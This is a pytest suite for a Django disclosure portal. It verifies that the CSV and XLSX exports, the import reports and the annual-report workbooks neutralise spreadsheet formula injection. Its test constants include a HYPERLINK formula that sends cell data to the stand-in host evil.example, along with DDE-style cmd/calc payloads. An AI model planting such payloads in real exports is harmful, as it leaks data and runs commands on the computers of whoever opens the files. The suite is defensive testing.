"""CSV/XLSX formula injection: text that a spreadsheet would run as a formula (``=HYPERLINK(…)``,
``+cmd|…``, ``-1+1``, ``@SUM(…)``) reaches every export, public and staff, as text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from django.urls import reverse

from disclosure import catalog_io
from disclosure.catalog_io.layout import ImportReport, RowError
from disclosure.models import (
    CatalogDomain,
    CatalogItem,
    LegalGround,
    NegativeCategory,
    NegativeListEntry,
)
from portal.spreadsheets import FORMULA_START, neutralise, unneutralise
from reports import output, tables
from tests.api.conftest import published_document
from tests.factories import staff

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看原文")'
COMMAND = "+cmd|' /C calc'!A0"
NEGATIVE = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def csv_rows(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", [HYPERLINK, COMMAND, NEGATIVE, AT, "\t=1", "＝1+1"])
def test_formula_text_gets_the_apostrophe_and_comes_back(text):
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("value", ["关于印发通知", "2026-000123", 42, None, "'=already quoted"])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value
    assert not (isinstance(value, str) and value.startswith(FORMULA_START))


def test_the_public_documents_csv_serves_formulas_as_text(client, agency_a):
    """Finding: /data/documents.csv served =HYPERLINK(...) as is."""
    published_document(agency_a, title=HYPERLINK, doc_number=COMMAND)
    for url in ("/data/documents.csv", f"/data/{agency_a.code}/documents.csv"):
        row = csv_rows(client.get(url))[1]
        assert row[1] == "'" + HYPERLINK, url
        assert row[2] == "'" + COMMAND, url


def test_the_public_catalog_and_negative_list_csv_serve_formulas_as_text(client, agency_a):
    domain = CatalogDomain.objects.create(name="注入测试", slug="injection")
    CatalogItem.objects.create(agency=agency_a, domain=domain, item_level1=AT,
                               content=NEGATIVE, responsible="市民政局")  # fmt: skip
    NegativeListEntry.objects.create(
        agency=agency_a, category=NegativeCategory.RIGHTS, legal_ground=LegalGround.THIRD_PARTY,
        matter=HYPERLINK, basis=COMMAND, effective_date="2026-01-01",
    )  # fmt: skip
    for url in ("/data/catalog-items.csv", "/data/negative-list.csv"):
        cells = [cell for row in csv_rows(client.get(url))[1:] for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_START)], url
    items = "\n".join(",".join(r) for r in csv_rows(client.get("/data/catalog-items.csv")))
    assert "'" + AT in items and "'" + NEGATIVE in items


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_staff_catalog_export_serves_formulas_as_text(client, agency_a, file_format):
    domain = CatalogDomain.objects.create(name="注入测试", slug="injection")
    CatalogItem.objects.create(agency=agency_a, domain=domain, item_level1=HYPERLINK,
                               content=COMMAND, responsible=AT)  # fmt: skip
    client.force_login(staff("office_head_a", agency_a, "office_head"))
    response = client.get(
        reverse("admin:disclosure_catalogitem_export"),
        {"agency": agency_a.pk, "file_format": file_format},
    )
    assert response.status_code == 200
    if file_format == "csv":
        cells = [cell for row in csv_rows(response)[1:] for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
        assert "'" + HYPERLINK in cells
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        texts = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
        assert {c.value for c in texts} >= {HYPERLINK, COMMAND, AT}
        assert all(c.data_type == "s" for c in texts)
        assert all(c.quotePrefix for c in texts if c.value.startswith(FORMULA_START))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_catalog_import_report_serves_formulas_as_text(file_format):
    """The report echoes the uploaded cells back to the member of staff."""
    report = ImportReport(errors=[RowError(row=2, column="一级事项", value=HYPERLINK,
                                            message="内容过长")])  # fmt: skip
    content = getattr(catalog_io, f"report_{file_format}")(report)
    if file_format == "csv":
        cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
        assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    else:
        cell = openpyxl.load_workbook(io.BytesIO(content)).active["C2"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (HYPERLINK, "s", True)


def test_the_annual_report_workbook_serves_formulas_as_text(agency_a):
    agency_a.name = "=1+2"
    agency_a.save()
    book = openpyxl.load_workbook(io.BytesIO(output.render_xlsx(tables.compute(agency_a, 2025))))
    title = book.worksheets[0]["A1"]
    assert title.value.startswith("=1+2")
    assert title.data_type == "s" and title.quotePrefix
